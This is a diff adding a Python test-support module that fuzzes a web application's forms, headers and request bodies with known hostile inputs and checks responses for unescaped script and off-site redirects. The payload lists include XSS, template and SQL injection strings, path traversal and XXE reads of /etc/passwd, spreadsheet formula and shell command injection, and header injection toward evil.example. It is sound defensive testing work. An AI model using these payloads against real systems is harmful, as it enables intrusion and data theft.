@@ -1,0 +1,231 @@
+"""Input that nobody means well by, in every dress it is known in, and how it is told that it did something."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+from urllib.parse import urlsplit
+
+from bs4 import BeautifulSoup
+from werkzeug.test import TestResponse
+
+from tests.support.cast import CAST, key
+
+OUTSIDE = "evil.example"
+"""The place that no answer may lead to or name."""
+CANARY = '"><svg onload=alert(1)>'
+
+TEXTS: dict[str, str] = {
+    # Script, in attributes, in elements whose text is not escaped, and in what a page might decode once more.
+    "markup": CANARY,
+    "closing": "'\"--></style></script></textarea></title><svg onload=alert(1)>",
+    "attribute": "x' onfocus='alert(1)' autofocus x=\"",
+    "entities": "&lt;svg onload=alert(1)&gt;&#60;svg onload=alert(1)&#62;&quot;",
+    "percent": "%22%3E%3Csvg%20onload%3Dalert(1)%3E",
+    "percent twice": "%2522%253E%253Csvg%2520onload%253Dalert(1)%253E",
+    "rich text": '<p onclick=alert(1)><a href="javascript:alert(1)">x</a><svg onload=alert(1)></p>',
+    "markdown": '[x](javascript:alert(1)) ![x](x"onerror="alert(1))',
+    "script link": "javascript:alert(1)",
+    "hidden script link": "java\tscript:alert(1)",
+    "data link": "data:text/html;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
+    "htmx": '<div hx-get="https://evil.example/" hx-trigger="load"></div>',
+    # Templates.
+    "jinja": "{{913*917}}{% print(913*917) %}{{config}}",
+    "expressions": "${913*917}#{913*917}<%= 913*917 %>*{913*917}",
+    "format": "%s%n%(x)s{0}{0.__class__}",
+    # SQL.
+    "sql": "' OR 1=1--",
+    "sql end": "');DROP TABLE persons;--",
+    "sql sleep": "'||(SELECT pg_sleep(9))||'",
+    "sql dollar": "$$;SELECT 1;$$\\",
+    "search": "a & | ! ( ) <-> :* %_\\",
+    # Text that is none.
+    "nul": "a\x00b",
+    "controls": "a\x01\x08\x0b\x1b[31m\x7f\x85b",
+    "surrogate": "a\ud800b\udfffc",
+    "no characters": "￾\ufdd0\U0010ffff",
+    "bidi": "‮abc‬⁦\u200b\u202e",
+    "marks": "ক" + "্" * 400 + "é" * 200,
+    "too long": "অ" * 6_000,
+    "white": " \t\u00a0\u2003\u3000 ",
+    "empty": "",
+    # Other languages' ways out.
+    "header": "x\r\nBcc: all@evil.example\r\n\r\nBoo",
+    "header folded": "x\nBcc: all@evil.example",
+    "address": "a@school.example,b@evil.example",
+    "path": "../../../../etc/passwd",
+    "path encoded": "..%2f..%2f..%2fetc%2fpasswd",
+    "formula": "=cmd|'/c calc'!A0",
+    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "command": "$(sleep 9)`sleep 9`;sleep 9|sleep 9",
+    "json": '{"$ne": null, "__proto__": {"x": 1}}',
+    "xml": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
+    "leads out": "//evil.example/x",
+    "leads out too": "https://evil.example/x",
+    "leads out backwards": "/\\evil.example/x",
+    "leads out as we": "http://localhost@evil.example/x",
+    # Numbers and days.
+    "huge": "9" * 400,
+    "beyond the column": "9223372036854775808",
+    "negative": "-1",
+    "nan": "NaN",
+    "infinite": "1e999",
+    "hex": "0x7fffffff",
+    "other digits": "٣٤৫",
+    "no day": "2026-02-30",
+    "first day": "0001-01-01",
+    "last day": "9999-12-31",
+    # Things of others, and of nobody.
+    "their section": str(key("section river 7A")),
+    "their student": str(CAST.sadia_student),
+    "nobody's": "00000000-0000-7000-8000-000000000000",
+    "no key": "01a1fe14-cba3-7161-a620-cbabc96c452",
+    "braced key": "{" + str(key("section river 7A")) + "}",
+    "wrong choice": "no-such-choice",
+    "role": "admin",
+}
+
+UNSHOWABLE = {
+    "hidden script link",
+    "bidi",
+    "nul",
+    "controls",
+    "surrogate",
+    "no characters",
+    "too long",
+    "header",
+    "header folded",
+    "white",
+    "empty",
+}
+"""What cannot stand in a field again as it was sent."""
+
+HEADERS: dict[str, tuple[str, ...]] = {
+    "Host": (OUTSIDE, "localhost:99999", "localhost, evil.example", "evil.example:80"),
+    "X-Forwarded-Host": (OUTSIDE, CANARY),
+    "X-Forwarded-Proto": ("https", "javascript", CANARY),
+    "X-Forwarded-Prefix": ("//evil.example", CANARY),
+    "X-Forwarded-For": ("203.0.113.66", "127.0.0.1, 203.0.113.66", "' OR 1=1--", CANARY, "::1%eth0"),
+    "X-Real-IP": ("203.0.113.66", "' OR 1=1--"),
+    "Forwarded": (f'for="203.0.113.66";host={OUTSIDE};proto=https', "for=_hidden"),
+    "X-HTTP-Method-Override": ("DELETE", "POST"),
+    "X-Original-URL": ("/audit/",),
+    "User-Agent": (CANARY, "' OR 1=1--", "x" * 6_000, "{{913*917}}", "\xff\xfe", ""),
+    "Referer": (f"https://{OUTSIDE}/{CANARY}", "javascript:alert(1)", "' OR 1=1--", "\xff"),
+    "Accept-Language": (CANARY, "en;q=x", "ar," * 500, "*;q=2", "../../etc/passwd"),
+    "Accept": ("application/json", CANARY),
+    "Accept-Encoding": ("identity;q=x, *;q=0", CANARY),
+    "HX-Request": ("true", CANARY),
+    "HX-Request-Type": (CANARY, "partial", "full"),
+    "HX-Target": (CANARY,),
+    "HX-Current-URL": (f"https://{OUTSIDE}/",),
+    "Range": ("bytes=0-18446744073709551615", "bytes=-1", "bytes=x", "bytes=0-0,0-0,0-0"),
+    "If-None-Match": (CANARY, 'W/"', "*", "x" * 3_000),
+    "If-Modified-Since": ("x", "Thu, 01 Jan 99999 00:00:00 GMT"),
+    "Cookie": (
+        "sa=x",
+        f"sa={CANARY}; {CANARY}=1",
+        "sa=.eJw.x.x; sa=y; =z",
+        "sa-browser=\xff\x01; x[y]=1",
+        ";;=;",
+        "remember_token=1|x",
+    ),
+    "Authorization": ("Basic Og==", "Bearer x"),
+    "Content-Type": ("application/json", "text/html; charset=nonsense", "multipart/form-data", CANARY),
+    "Content-Encoding": ("gzip",),
+    "Origin": (f"https://{OUTSIDE}", "null"),
+    "X-Request-Id": (CANARY, "x" * 500),
+    "X-CSRFToken": (CANARY, "=" * 70, "\xff"),
+}
+"""What a browser would not send, or not like this."""
+
+BODIES: dict[str, tuple[str, bytes]] = {
+    "json": ("application/json", b'{"csrf_token": ["x"], "name": {"a": [1, null]}}'),
+    "json cut off": ("application/json", b'{"csrf_token": '),
+    "xml": ("application/xml", b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
+    "nothing": ("application/x-www-form-urlencoded", b""),
+    "no kind": ("", b"name=x"),
+    "percent": (
+        "application/x-www-form-urlencoded",
+        b"csrf_token={token}&%zz=%&name=%ff%fe%00%ed%a0%80&%00=%00&=&&;",
+    ),
+    "arrays": (
+        "application/x-www-form-urlencoded",
+        b"csrf_token={token}&a[b]=1&a[]=2&a[b][c]=3&__proto__[x]=1&name[]=x&self=1&field.errors=1&%3Csvg+onload%3D1%3E=1",
+    ),
+    "charset": (
+        "application/x-www-form-urlencoded; charset=utf-7",
+        b"csrf_token={token}&name=+ADw-svg onload+AD4-",
+    ),
+    "no boundary": ("multipart/form-data", b"--x\r\n\r\n"),
+    "boundary": ("multipart/form-data; boundary=" + "x" * 300, b"--x\r\n"),
+    "cut off": (
+        "multipart/form-data; boundary=x",
+        b'--x\r\nContent-Disposition: form-data; name="csrf_token"\r\n\r\n{token}\r\n'
+        b'--x\r\nContent-Disposition: form-data; name="na',
+    ),
+    "parts": (
+        "multipart/form-data; boundary=x",
+        b'--x\r\nContent-Disposition: form-data; name="csrf_token"\r\n\r\n{token}\r\n'
+        b'--x\r\nContent-Disposition: form-data; name="name"; filename="../../x\r\n.html"\r\n'
+        b"Content-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n\xff\xfe\r\n"
+        b"--x\r\nContent-Disposition: x\r\n\r\n\xff\r\n--x\r\n\r\nno head\r\n--x--\r\n",
+    ),
+}
+"""Bodies that are no form, or a broken one: content type and bytes, in which `{token}` stands for the session's."""
+
+_SCRIPT = re.compile(r"<svg[ /]+onload|837221")
+_LINKS = ("href", "src", "action", "formaction", "hx-get", "hx-post", "content")
+_OUT = re.compile(
+    rf"\s*(?:javascript|data:text|vbscript)\b.*|(?:https?:)?[/\\]{{2}}[^/]*{re.escape(OUTSIDE)}.*",
+    re.I | re.S,
+)
+
+
+def rotated(names: list[str], payloads: list[str]) -> Iterator[dict[str, str]]:
+    """As many forms as there are payloads: each name meets each of them once, beside other ones."""
+    for turn in range(len(payloads)):
+        yield {name: payloads[(turn + place) % len(payloads)] for place, name in enumerate(names)}
+
+
+def faults(response: TestResponse, where: str) -> list[str]:
+    """What went wrong with an answer to any of this: broken, believed, or handed on."""
+    found = [f"{where}: {response.status_code}"] if response.status_code >= 500 else []
+    for name in ("Location", "HX-Redirect", "HX-Location", "HX-Push-Url", "HX-Replace-Url"):
+        target = response.headers.get(name)
+        if target is not None and not is_ours(target):
+            found.append(f"{where}: {name} leads to {target!r}")
+    # A file's own name stands there between quotes, in which a quote is none of its own.
+    said = [(name, value) for name, value in response.headers if name != "Content-Disposition"]
+    found += [f"{where}: {name} says {value!r}" for name, value in said if "svg onload" in value]
+    if response.mimetype in {"text/html", "application/xml"}:
+        found += [f"{where}: {fault}" for fault in faults_of_markup(response.get_data(as_text=True))]
+    elif not response.is_streamed and OUTSIDE in response.headers.get("Link", ""):
+        found.append(f"{where}: Link leads out")
+    return found
+
+
+def is_ours(target: str) -> bool:
+    """Whether a browser that goes there stays on the site."""
+    parts = urlsplit(target)
+    inside = parts.scheme in {"", "http"} and parts.netloc in {"", "localhost"}
+    return (
+        inside
+        and not target.startswith(("//", "/\\"))
+        and "\\" not in target[:3]
+        and parts.path.startswith("/")
+    )
+
+
+def faults_of_markup(html: str) -> list[str]:
+    """Script, handlers and ways out among the elements of a page or of a part of one."""
+    found = [f"not escaped: {match[0]!r}" for match in _SCRIPT.finditer(html)]
+    if not any(word in html for word in ("alert(", "onload", "javascript:", "data:text", OUTSIDE)):
+        return found
+    for tag in BeautifulSoup(html, "html.parser").find_all(True):
+        for name, value in tag.attrs.items():
+            if name.startswith("on"):
+                found.append(f"a handler: {str(tag)[:120]}")
+            elif name in _LINKS and _OUT.fullmatch(str(value)):
+                found.append(f"{name} leads out: {str(tag)[:120]}")
+    return found
